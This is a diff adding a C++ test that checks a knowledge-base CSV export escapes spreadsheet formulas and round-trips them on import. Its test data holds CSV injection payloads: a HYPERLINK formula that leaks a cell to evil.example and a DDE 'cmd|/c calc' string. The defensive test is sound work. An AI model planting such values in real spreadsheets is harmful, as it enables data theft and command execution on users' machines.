@@ -1,4 +1,6 @@
 // Knowledge in bulk (import and export as JSON and CSV, all or nothing) and the test playground.
+#include <set>
+
 #include "support/scenario.hpp"
 
 namespace baton::testing {
@@ -37,6 +39,32 @@ TEST_F(KnowledgeIo, CsvFromASpreadsheetImportsAndExportsTheSame) {
                               {{"Content-Type", "text/csv"}});
   ASSERT_EQ(again.status, 200) << again.body;
   EXPECT_EQ(count(assistant, agent), 2u);
+}
+
+TEST_F(KnowledgeIo, TheCsvExportNeverHandsASpreadsheetAFormulaAndImportsBackAsItWas) {
+  const auto assistant = new_assistant(true);
+  const std::string question = R"(=HYPERLINK("http://evil.example/?x="&A1,"click"))";
+  const std::string answer = R"(@SUM(1+1)*cmd|"/c calc"!A1)";
+  add_knowledge(assistant, question, answer);
+  add_knowledge(assistant, "+886 or -5?", "Price: =5, not a formula");
+
+  auto exported = http_->get(knowledge_path(assistant) + "/export?format=csv", admin_token());
+  ASSERT_EQ(exported.status, 200);
+  const std::string escaped =
+      R"csv("'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'@SUM(1+1)*cmd|""/c calc""!A1")csv";
+  EXPECT_NE(exported.body.find(escaped), std::string::npos) << exported.body;
+  EXPECT_NE(exported.body.find("'+886 or -5?,\"Price: =5, not a formula\""), std::string::npos) << exported.body;
+
+  auto again = http_->request("POST", knowledge_path(assistant) + "/import?mode=replace", exported.body, admin_token(),
+                              {{"Content-Type", "text/csv"}});
+  ASSERT_EQ(again.status, 200) << again.body;
+  std::set<std::pair<std::string, std::string>> entries;
+  const auto listed = http_->get(knowledge_path(assistant), admin_token()).json();
+  for (const auto& entry : listed.at("knowledge").as_array()) {
+    entries.emplace(str(entry.at("question")), str(entry.at("answer")));
+  }
+  EXPECT_EQ(entries, (std::set<std::pair<std::string, std::string>>{{question, answer},
+                                                                    {"+886 or -5?", "Price: =5, not a formula"}}));
 }
 
 TEST_F(KnowledgeIo, JsonImportAppendsOrReplacesAndTheAiUsesItAtOnce) {
